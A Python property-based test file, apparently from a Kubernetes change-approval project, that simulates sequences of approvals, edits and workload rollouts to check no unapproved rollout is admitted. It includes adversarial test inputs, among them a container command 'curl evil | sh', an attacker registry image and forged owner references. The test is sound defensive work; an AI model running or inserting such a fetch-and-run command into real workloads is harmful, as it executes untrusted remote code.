"""The invariant of the issue: no sequence of writes lets an unapproved rollout through.

Hypothesis generates sequences of writes by a small cast of users: creating,
editing, approving, rejecting and cancelling ChangeRequests, editing the
ServiceOnCall, the controller writing a phase, and rolling workloads out to
random images. A small world applies each write the way the API server would:
the governance rules decide, only accepted writes take effect, and their JSON
patches are applied. Every pod-template change that decide_rollout admits must
be covered by a change that targets it and holds the required approvals from
users who really were approvers when they approved, none of them its requester.

Restart, rollback and break-glass are excluded by construction: no rollout is
ever recorded as Succeeded, and nobody is in an emergency group (break-glass
annotations are attempted, and must be refused). Rollouts may also pin a digest
under a tag, edit the command beside the image, pause or resume a Deployment and
raise or lower a StatefulSet's partition: changes declare images only, so an
admitted write may move nothing but images, and a release must be covered too.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Any

import jsonpatch
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from changegate.api.v1alpha1.changerequest import ApprovalDecision, ChangeRequest
from changegate.api.v1alpha1.serviceoncall import ServiceOnCall
from changegate.core.change.admission import BREAK_GLASS, Reason, decide_rollout
from changegate.core.change.facts import ChangeFacts, ServicePolicy
from changegate.core.change.governance import review_change_request, review_service_on_call
from changegate.core.change.images import image_matches
from changegate.core.change.workloads import Workload, is_rollout
from changegate.core.common import User
from tests.unit.builders import (
    AUTHORITIES,
    DIGEST,
    NOW,
    OLD_IMAGE,
    REGISTRY,
    change_request,
    request,
    service_on_call,
    target,
    workload_body,
)

USERS = (
    User("product-dev-1", frozenset({"team-payments"})),
    User("product-dev-2", frozenset({"team-payments"})),
    User("change-manager-1", frozenset({"change-managers"})),
    User("change-manager-2", frozenset({"change-managers"})),
    User("approver-by-name"),
    User("someone-else", frozenset({"team-orders"})),
)
IMAGES = (
    OLD_IMAGE,
    f"{REGISTRY}/payments-api:1.42.0",
    f"{REGISTRY}/payments-api:1.43.0",
    f"{REGISTRY}/payments-api@{DIGEST}",
    "registry.example.com/attacker/payments-api:1.42.0",
)
# (kind, name, exists at the start): the last one is created by a rollout.
WORKLOADS = (
    ("Deployment", "payments-api", True),
    ("StatefulSet", "payments-ledger", True),
    ("Deployment", "payments-canary", False),
    # The other ways to run code (issue 10): each written by the team, never by a controller.
    ("Pod", "payments-side", False),
    ("ReplicaSet", "payments-rs", True),
    ("Job", "payments-job", False),
    ("CronJob", "payments-cron", True),
)
CHANGES = ("chg-a", "chg-b")
WINDOWS = {"open": (-1, 2), "closed": (-3, -1), "later": (1, 3), "none": None}

users = st.sampled_from(USERS)
changes = st.sampled_from(CHANGES)
# Weighted towards the images changes declare, so that rollouts often come near.
images = st.sampled_from(IMAGES[:3] * 3 + IMAGES[3:])
# Approvals come more often from approvers, so that changes often get approved.
approvers = st.sampled_from(USERS + USERS[2:5] * 2)
# Bodies mostly leave requester and approver to the webhook, and sometimes claim someone.
names = st.sampled_from([None] * 8 + [u.username for u in USERS])


# -- operations ---------------------------------------------------------------


@dataclass(frozen=True)
class Create:
    change: str
    user: User
    claimed_requester: str | None  # what the body says; None leaves it to the webhook
    type: str
    targets: tuple[tuple[int, str], ...]  # (workload index, image of container api)
    window: str
    approvals_in_body: bool
    pinned: bool = False  # the change declares DIGEST beside each tag it names


@dataclass(frozen=True)
class Approve:
    change: str
    user: User
    decision: str
    claimed_approver: str | None
    count: int


@dataclass(frozen=True)
class Edit:
    change: str
    user: User
    what: str
    other: User


@dataclass(frozen=True)
class Cancel:
    change: str
    user: User


@dataclass(frozen=True)
class Reconcile:
    """The controller writes the phase it derives to status (status is not reviewed)."""

    change: str


@dataclass(frozen=True)
class EditPolicy:
    user: User
    what: str
    other: User


@dataclass(frozen=True)
class Roll:
    workload: int
    user: User
    image: str
    break_glass: bool
    # A controller ownerReference the team wrote itself: it must prove nothing.
    forged_owner: bool = False
    # What else the write does (issue 10): a digest under the tag, a command beside the
    # image, pausing or resuming a Deployment, raising or lowering a StatefulSet partition.
    extra: str = "none"


EXTRAS = ("digest", "other-digest", "command", "pause", "resume", "partition-high", "partition-low")
OTHER_DIGEST = "sha256:" + "b" * 64

workloads = st.sampled_from([0, 0, 0, 1, 2, 3, 4, 5, 6])
creates = st.builds(
    Create,
    changes,
    st.sampled_from(USERS[:2] * 3 + USERS),  # mostly the team
    names,
    st.sampled_from(["Normal"] * 4 + ["Standard", "Emergency"]),
    st.lists(
        st.tuples(workloads, images),
        min_size=1,
        max_size=2,
        unique_by=lambda t: t[0],
    ).map(tuple),
    st.sampled_from(["open"] * 3 + list(WINDOWS)),
    st.sampled_from([False] * 5 + [True]),
    st.sampled_from([False] * 3 + [True]),
)
approves = st.builds(
    Approve,
    changes,
    approvers,
    st.sampled_from(["Approved"] * 9 + ["Rejected"]),
    names,
    st.sampled_from([1] * 5 + [2]),
)
edits = st.builds(
    Edit,
    changes,
    users,
    st.sampled_from(
        [
            "summary",
            "requester",
            "type",
            "targets",
            "rewrite-approval",
            "drop-approvals",
            "uncancel",
            "append-approval-as-other",
        ]
    ),
    users,
)
rolls = st.builds(
    Roll,
    workloads,
    users,
    images,
    st.sampled_from([False] * 4 + [True]),
    st.sampled_from([False] * 3 + [True]),
    st.sampled_from(("none",) * 7 + EXTRAS),
)


def weighted(*choices: tuple[int, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """One of the strategies, each as often as its weight (by repetition)."""
    # sampled_from keeps the weights; one_of would flatten the repeated branches away.
    return st.sampled_from([s for weight, s in choices for _ in range(weight)]).flatmap(lambda s: s)


# Weighted towards approvals and rollouts, where the invariant is at stake; a cancel
# or a rejection ends a change, so they come rarely.
operations = weighted(
    (3, creates),
    (10, approves),
    (4, edits),
    (1, st.builds(Cancel, changes, users)),
    (2, st.builds(Reconcile, changes)),
    (
        2,
        st.builds(
            EditPolicy,
            users,
            st.sampled_from(["add-approver", "required-approvals", "emergency-group", "drop-prod"]),
            users,
        ),
    ),
    (10, rolls),
)


# -- the world ----------------------------------------------------------------


OWNERS = {"Pod": "ReplicaSet", "ReplicaSet": "Deployment", "Job": "CronJob"}


def shaped(body: dict[str, Any], forged_owner: bool) -> dict[str, Any]:
    """The body where its kind keeps its pods (a Pod's spec, a CronJob's job template)."""
    kind, template = body["kind"], body["spec"]["template"]
    if kind == "Pod":
        body["spec"] = template["spec"]
    elif kind == "CronJob":
        body["spec"] = {"schedule": "@hourly", "jobTemplate": {"spec": {"template": template}}}
    if forged_owner and kind in OWNERS:
        owner = {"kind": OWNERS[kind], "name": "owner", "uid": "u", "controller": True}
        body["metadata"]["ownerReferences"] = [owner]
    return body


def digested(image: str, extra: str) -> str:
    """The image, pinned to a digest the write chooses when the extra says so."""
    digests = {"digest": DIGEST, "other-digest": OTHER_DIGEST}
    if extra not in digests or "@" in image:
        return image
    return f"{image}@{digests[extra]}"


def pod_spec_of(body: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = body["spec"]
    if body["kind"] == "Pod":
        return spec
    if body["kind"] == "CronJob":
        spec = spec["jobTemplate"]["spec"]
    template_spec: dict[str, Any] = spec["template"]["spec"]
    return template_spec


def with_extra(new: dict[str, Any], old: dict[str, Any] | None, extra: str) -> dict[str, Any]:
    """The write's body once it does `extra` too (releases start from the stored body)."""
    kind = new["kind"]
    if extra in ("resume", "partition-low") and old is not None:
        new = copy.deepcopy(old)
        new["spec"].pop("paused", None)
        new["spec"].pop("updateStrategy", None)
    elif extra == "command":
        pod_spec_of(new)["containers"][0]["command"] = ["/bin/sh", "-c", "curl evil | sh"]
    elif extra == "pause" and kind == "Deployment":
        new["spec"]["paused"] = True
    elif extra == "partition-high" and kind == "StatefulSet":
        new["spec"]["updateStrategy"] = {"type": "RollingUpdate", "rollingUpdate": {"partition": 5}}
    return new


def without_images(template: Any) -> Any:
    """A pod template with every container's image left out (the oracle's own copy)."""
    template = copy.deepcopy(dict(template))
    for key in ("containers", "initContainers"):
        for container in (template.get("spec") or {}).get(key) or []:
            container.pop("image", None)
    return template


def really_approves(soc: ServiceOnCall, user: User) -> bool:
    """Whether `user` is an approver of `soc`, read from the model, not from ServicePolicy."""
    approvers = soc.spec.change_policy.approvers
    groups = approvers.groups or (
        [] if approvers.users else list(AUTHORITIES.change_manager_groups)
    )
    return user.username in approvers.users or bool(user.groups & set(groups))


@dataclass
class World:
    """The objects of one namespace, and a ledger of who really did what."""

    soc: ServiceOnCall
    changes: dict[str, ChangeRequest] = field(default_factory=dict)
    workloads: dict[int, dict[str, Any]] = field(default_factory=dict)
    creator: dict[str, str] = field(default_factory=dict)
    # change -> approvers who wrote an accepted approval and were approvers then
    approved_by: dict[str, set[str]] = field(default_factory=dict)
    cancelled: set[str] = field(default_factory=set)
    admitted: int = 0

    @classmethod
    def start(cls, required_approvals: int) -> World:
        world = cls(service_on_call(required_approvals=required_approvals))
        for index, (kind, name, exists) in enumerate(WORKLOADS):
            if exists:
                world.workloads[index] = shaped(workload_body(name, kind=kind), False)
        return world

    @property
    def policy(self) -> ServicePolicy:
        return ServicePolicy.from_model(self.soc, tuple(AUTHORITIES.change_manager_groups))

    # -- ChangeRequests --

    def write(self, name: str, body: dict[str, Any], user: User) -> ChangeRequest | None:
        """One write through the API server: schema, the mutating webhook, its patch."""
        old = self.changes.get(name)
        try:
            new = ChangeRequest.model_validate(body)
        except ValidationError:
            return None  # the schema refuses it before any webhook
        operation = "UPDATE" if old else "CREATE"
        verdict = review_change_request(operation, old, new, user, self.policy, NOW)
        if not verdict.allowed:
            return None
        patched = jsonpatch.apply_patch(new.to_json(), verdict.patch)
        if old is not None:
            patched["status"] = old.to_json()["status"]  # the main resource never writes status
        stored = ChangeRequest.model_validate(patched)
        self.changes[name] = stored
        return stored

    def create(self, op: Create) -> None:
        if op.change in self.changes:
            return  # AlreadyExists
        body = change_request(
            op.change,
            type=op.type,
            targets=[
                target(
                    WORKLOADS[i][1],
                    WORKLOADS[i][0],
                    {"api": image},
                    {"api": DIGEST} if op.pinned and "@" not in image else None,
                )
                for i, image in op.targets
            ],
            window=WINDOWS[op.window],
            requester=op.claimed_requester,
        ).to_json()
        body["status"] = {}
        if op.approvals_in_body:
            body["spec"]["approvals"] = [{"decision": "Approved", "approver": "change-manager-1"}]
        if self.write(op.change, body, op.user) is not None:
            self.creator[op.change] = op.user.username

    def append_approvals(self, name: str, user: User, entries: list[dict[str, Any]]) -> None:
        old = self.changes.get(name)
        if old is None:
            return
        body = old.to_json()
        body["spec"].setdefault("approvals", []).extend(entries)
        real = really_approves(self.soc, user) and user.username != self.creator[name]
        if self.write(name, body, user) is not None and real:
            for entry in entries:
                if entry["decision"] == ApprovalDecision.APPROVED.value:
                    self.approved_by.setdefault(name, set()).add(user.username)

    def approve(self, op: Approve) -> None:
        entry: dict[str, Any] = {"decision": op.decision, "comment": "reviewed"}
        if op.claimed_approver is not None:
            entry["approver"] = op.claimed_approver
        self.append_approvals(op.change, op.user, [dict(entry) for _ in range(op.count)])

    def edit(self, op: Edit) -> None:
        old = self.changes.get(op.change)
        if old is None:
            return
        if op.what == "append-approval-as-other":
            # A write that appends an approval naming someone else, by op.user.
            entry = {"decision": "Approved", "approver": op.other.username}
            self.append_approvals(op.change, op.user, [entry])
            return
        body = old.to_json()
        spec = body["spec"]
        if op.what == "summary":
            spec["summary"] = f"edited by {op.user.username}"
        elif op.what == "requester":
            spec["requester"] = op.other.username
        elif op.what == "type":
            spec["type"] = "Emergency"
            spec["emergencyReason"] = "it is urgent"
            spec.pop("templateRef", None)
        elif op.what == "targets":
            spec["targets"] = [target(images={"api": IMAGES[2]})]
        elif op.what == "rewrite-approval":
            if not spec.get("approvals"):
                return
            spec["approvals"][0]["approver"] = op.other.username
            spec["approvals"][0]["decision"] = "Approved"
        elif op.what == "drop-approvals":
            spec["approvals"] = []
        elif op.what == "uncancel":
            spec["cancel"] = False
        stored = self.write(op.change, body, op.user)
        if stored is not None:
            # What decides admission never moves by an edit.
            assert stored.spec.approvals == old.spec.approvals, op
            assert stored.spec.requester == old.spec.requester, op
            assert (stored.spec.type, stored.spec.targets) == (old.spec.type, old.spec.targets), op
            assert stored.spec.cancel or not old.spec.cancel, op

    def cancel(self, op: Cancel) -> None:
        old = self.changes.get(op.change)
        if old is None:
            return
        body = old.to_json()
        body["spec"]["cancel"] = True
        if self.write(op.change, body, op.user) is not None:
            self.cancelled.add(op.change)

    def reconcile(self, op: Reconcile) -> None:
        old = self.changes.get(op.change)
        if old is None:
            return
        body = old.to_json()
        body["status"]["phase"] = ChangeFacts.from_model(old).effective_phase(self.policy).value
        self.changes[op.change] = ChangeRequest.model_validate(body)

    # -- the ServiceOnCall --

    def edit_policy(self, op: EditPolicy) -> None:
        body = self.soc.to_json()
        policy = body["spec"]["changePolicy"]
        if op.what == "add-approver":
            policy["approvers"].setdefault("users", []).append(op.other.username)
        elif op.what == "required-approvals":
            policy["requiredApprovals"] = 1
        elif op.what == "emergency-group":
            policy["emergencyGroups"] = sorted(op.user.groups) or ["nobody"]
        elif op.what == "drop-prod":
            for env in body["spec"]["environments"]:
                env["production"] = False
        new = ServiceOnCall.model_validate(body)
        if review_service_on_call(self.soc, new, op.user, AUTHORITIES).allowed:
            assert AUTHORITIES.may_govern(op.user) or new.spec == self.soc.spec, op
            # Accepted from governance, but kept out of the world: an emergency group would
            # allow break-glass, and an ungoverned namespace passes everything, by design.
            if op.what in ("add-approver", "required-approvals"):
                self.soc = new

    # -- workloads --

    def probe(self) -> None:
        """Try every image on every workload as the team would, without keeping the result."""
        for index in range(len(WORKLOADS)):
            for image in IMAGES[:3]:
                self.roll(Roll(index, USERS[0], image, False), keep=False)

    def roll(self, op: Roll, keep: bool = True) -> None:
        kind, name, _ = WORKLOADS[op.workload]
        old = self.workloads.get(op.workload)
        annotations = {BREAK_GLASS: f"incident by {op.user.username}"} if op.break_glass else {}
        image = digested(op.image, op.extra)
        new = shaped(
            workload_body(name, kind=kind, images={"api": image}, annotations=annotations),
            op.forged_owner,
        )
        new = with_extra(new, old, op.extra)
        req = request(old, new, user=op.user)
        indexed = [ChangeFacts.from_model(c) for c in self.changes.values()]
        decision = decide_rollout(req, self.policy, indexed, NOW)
        rollout = is_rollout(req.old, req.new)

        if decision.allowed and rollout:
            assert decision.reason is Reason.APPROVED_CHANGE, decision
            assert decision.change is not None
            self.assert_covered(decision.change.name, req.new)
            if req.old is not None:  # a change here declares images only: nothing else moves
                assert without_images(req.old.template) == without_images(req.new.template), op
            self.admitted += 1
        if decision.allowed and keep:
            self.workloads[op.workload] = new

    def assert_covered(self, name: str, workload: Workload) -> None:
        """The oracle: written from the ledger, not from the code under test."""
        change = self.changes[name]
        assert name not in self.cancelled, f"cancelled {name} admitted a rollout"
        spec_target = next(
            t
            for t in change.spec.targets
            if (t.kind.value, t.name) == (workload.kind, workload.name)
        )
        declared = {i.container: i for i in spec_target.images}
        for container, actual in workload.images.items():
            assert image_matches(declared[container].image, actual, declared[container].digest)
            if "@" in actual:  # a digest runs only when the change declared that digest
                want = declared[container]
                pinned = want.digest or want.image.partition("@")[2]
                assert actual.partition("@")[2] == pinned, (actual, want)
        real = self.approved_by.get(name, set()) - {self.creator[name]}
        required = self.soc.spec.change_policy.required_approvals
        assert len(real) >= required, (
            f"{workload.kind}/{workload.name} admitted under {name} with approvals from"
            f" {sorted(real)} of {required} required; requester {self.creator[name]},"
            f" approvals {change.spec.approvals}"
        )

    def apply(self, op: Any) -> None:
        handler = {
            Create: self.create,
            Approve: self.approve,
            Edit: self.edit,
            Cancel: self.cancel,
            Reconcile: self.reconcile,
            EditPolicy: self.edit_policy,
            Roll: self.roll,
        }[type(op)]
        handler(op)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from([1, 1, 2, 3]),
    st.lists(creates, min_size=1, max_size=2),
    st.lists(operations, min_size=10, max_size=30),
)
def test_no_sequence_of_writes_lets_an_unapproved_rollout_through(
    required_approvals: int, first: list[Create], then: list[Any]
) -> None:
    world = World.start(required_approvals)
    for op in first + then:
        world.apply(op)
    world.probe()


def test_the_world_admits_a_properly_approved_rollout() -> None:
    """The property is not vacuous: its world does let an approved change through."""
    dev, _, manager, second, *_ = USERS
    image = IMAGES[1]
    world = World.start(required_approvals=2)
    ops = [
        Create("chg-a", dev, None, "Normal", ((0, image),), "open", False),
        Approve("chg-a", dev, "Approved", None, 1),  # own approval: refused
        Approve("chg-a", manager, "Approved", None, 1),
        Roll(0, dev, image, False),  # 1 of 2: refused
        Approve("chg-a", second, "Approved", None, 1),
        Roll(0, dev, IMAGES[2], False),  # not the declared image: refused
        Roll(0, dev, image, False),
    ]

    for op in ops:
        world.apply(op)

    assert world.approved_by["chg-a"] == {"change-manager-1", "change-manager-2"}
    assert world.admitted == 1
    assert Workload.from_body(world.workloads[0]).images == {"api": image}


def test_the_world_keeps_a_requester_from_approving_their_own_change() -> None:
    dev, teammate, manager, *_ = USERS
    world = World.start(required_approvals=1)
    ops = [
        Create("chg-a", manager, None, "Normal", ((0, IMAGES[1]),), "open", False),
        Approve("chg-a", manager, "Approved", None, 1),
        Approve("chg-a", dev, "Approved", "change-manager-2", 1),
        Edit("chg-a", teammate, "append-approval-as-other", manager),
        Roll(0, manager, IMAGES[1], False),
    ]

    for op in ops:
        world.apply(op)

    assert world.changes["chg-a"].spec.approvals == []
    assert world.admitted == 0
    assert world.workloads[0] == workload_body()


def test_the_world_refuses_what_an_images_only_change_does_not_declare() -> None:
    """Non-vacuous for the new writes: a command, an undeclared digest, a later release."""
    dev, _, manager, *_ = USERS
    image = IMAGES[1]
    world = World.start(required_approvals=1)
    ops = [
        Create("chg-a", dev, None, "Normal", ((0, image), (1, image)), "open", False),
        Approve("chg-a", manager, "Approved", None, 1),
        Roll(0, dev, image, False, extra="command"),  # more than images: refused
        Roll(0, dev, image, False, extra="other-digest"),  # a digest nobody declared: refused
        Roll(0, dev, image, False, extra="pause"),  # held back, under the change
        Roll(1, dev, image, False, extra="partition-high"),
        Cancel("chg-a", dev),
        Roll(0, dev, image, False, extra="resume"),  # the change is gone: refused
        Roll(1, dev, image, False, extra="partition-low"),  # refused
    ]

    for op in ops:
        world.apply(op)

    assert world.admitted == 2
    assert world.workloads[0]["spec"]["paused"] is True
    assert world.workloads[1]["spec"]["updateStrategy"]["rollingUpdate"]["partition"] == 5
